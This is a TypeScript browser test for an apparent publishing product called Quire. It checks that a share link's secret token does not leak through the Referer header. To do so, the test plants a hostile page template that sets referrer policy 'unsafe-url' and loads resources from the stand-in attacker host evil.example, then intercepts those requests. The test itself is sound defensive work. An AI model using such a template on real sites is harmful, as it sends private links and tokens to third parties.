import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createClient, type Client } from '@quire/client'
import type { BrowserContext } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { isMissing, startBrowser } from '../browser/chromium.ts'
import { startDemo, type DemoService } from '../clients/demo.ts'

vi.setConfig({ testTimeout: 60_000 })

const configId = 'magazine'

describe.skipIf(isMissing)('what a share link shows, in a browser', () => {
  let demo: DemoService
  let api: Client
  let browser: BrowserContext
  let folder: string

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'quire-shared-'))
    demo = await startDemo()
    api = createClient({ baseUrl: demo.url, auth: { token: demo.token } })
    browser = await startBrowser(join(folder, 'profile'))
  }, 120_000)

  afterAll(async () => {
    await browser.close()
    await demo.stop()
    await rm(folder, { recursive: true, force: true, maxRetries: 5 })
  })

  it('gives its address to nobody, whatever the templates of the package say', async () => {
    const [site] = (await api.sites.list({ configId })).items
    const siteId = String(site?.id)
    const { fields } = await api.items.getBySlug({ configId, slug: 'ink-that-remembers' })
    const packageName = 'hostile'
    await api.packages.create({ repo: configId, name: packageName })
    const cover = `{{ ${JSON.stringify(fields?.['cover'])} | item | rendition: 'original' }}`
    const layout = `<!doctype html><meta name="referrer" content="unsafe-url">
      <link rel="stylesheet" href="https://evil.example/style.css" referrerpolicy="unsafe-url">
      <img src="https://evil.example/picture.png" referrerpolicy="unsafe-url">
      <a href="https://evil.example/page?at=${cover}" referrerpolicy="unsafe-url">Away</a>
      <img class="own" src="${cover}">{{ content }}`
    await api.sites.update({ configId, packageName, siteId, templates: { ...site?.templates, layout } })
    const { url } = await api.packages.addShareLink({ repo: configId, packageName })
    const token = url.split('/').at(-2) ?? ''
    const sent: string[] = []
    const page = await browser.newPage()
    await page.route('https://evil.example/**', async (route) => {
      const request = route.request()
      sent.push(JSON.stringify([request.url(), await request.allHeaders()]))
      await route.fulfill({ contentType: 'text/html', body: 'evil' })
    })
    await page.goto(url)
    await page.getByRole('link', { name: String(site?.name) }).click()
    const own = page.locator('img.own')
    await own.waitFor()
    await page.waitForLoadState('networkidle')
    const width: number = await page.evaluate(`document.querySelector('img.own').naturalWidth`)
    expect(width).toBeGreaterThan(0)
    await page.getByRole('link', { name: 'Away' }).click()
    await expect.poll(() => sent.length).toBeGreaterThan(2)
    expect(sent.filter((request) => request.includes(token) || request.includes(demo.url))).toEqual([])
    await page.close()
  })
})
